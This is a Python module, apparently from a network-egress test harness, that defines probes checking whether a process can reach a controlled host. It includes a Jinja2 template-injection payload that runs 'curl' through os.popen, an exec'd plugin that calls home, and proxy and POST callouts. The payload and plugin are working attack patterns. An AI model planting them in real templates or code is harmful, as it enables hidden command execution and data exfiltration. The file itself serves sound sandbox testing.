"""What comes as code or as a template, and calls out the way ordinary code does."""

from __future__ import annotations

import http.client
import importlib
import types
import urllib.request

from freehold.residency.attacks import MARK, AbsentError, Attack, Target

_TEMPLATE = "{{ cycler.__init__.__globals__.os.popen('curl -sm3 http://%s:%d/template').read() }}"
_PLUGIN = """
import {library}
def on_load():
    {library}.get("http://{address}:{port}/plugin", timeout=3, verify=False)
"""


def poisoned_template(t: Target) -> None:
    """As a template of the model's would be rendered, through the sandbox."""
    module, _, name = t.renderer.partition(":")
    try:
        render = getattr(importlib.import_module(module), name)
    except ImportError as error:
        raise AbsentError(f"this process has no templates ({error})") from error
    render(_TEMPLATE % (t.v4, t.port)).render([{"role": "user", "content": "hello"}])


def broken_sandbox(t: Target) -> None:
    """The same template where the sandbox has a hole: only the kernel is left."""
    try:
        import jinja2
    except ImportError as error:
        raise AbsentError(f"this process has no templates ({error})") from error
    made = jinja2.Environment(autoescape=False).from_string(_TEMPLATE % (t.v4, t.port))  # noqa: S701
    if not made.render():
        raise PermissionError("the program it starts reached nobody")


def plugin_httpx(t: Target) -> None:
    _plugin("httpx", t)


def plugin_requests(t: Target) -> None:
    _plugin("requests", t)


def open_url(t: Target) -> None:
    urllib.request.urlopen(f"http://{t.v4}:{t.port}/urllib", timeout=3).read()


def by_proxy(t: Target) -> None:
    """A proxy from the environment, as many libraries take it without asking."""
    proxies = urllib.request.ProxyHandler({"http": f"http://{t.v4}:{t.port}"})
    urllib.request.build_opener(proxies).open("http://telemetry.example/", timeout=3).read()


def post(t: Target) -> None:
    connection = http.client.HTTPConnection(t.v6, t.port, timeout=3)
    connection.request("POST", "/telemetry", body=MARK)
    connection.getresponse().read()


def _plugin(library: str, t: Target) -> None:
    source = _PLUGIN.format(library=library, address=t.v4, port=t.port)
    plugin = types.ModuleType("freehold_plugin")
    try:
        exec(compile(source, "plugin.py", "exec"), plugin.__dict__)  # noqa: S102
    except ModuleNotFoundError as error:
        raise AbsentError(str(error)) from error
    plugin.on_load()


KINDS: list[tuple[str, str, Attack]] = [
    ("template", "a chat template that starts a program, in the sandbox", poisoned_template),
    ("template-unboxed", "the same where the sandbox has a hole", broken_sandbox),
    ("plugin-httpx", "a plugin that imports httpx and calls home", plugin_httpx),
    ("plugin-requests", "a plugin that imports requests and calls home", plugin_requests),
    ("urllib", "urllib", open_url),
    ("proxy", "a proxy from the environment", by_proxy),
    ("http-post", "telemetry by HTTP POST over IPv6", post),
]
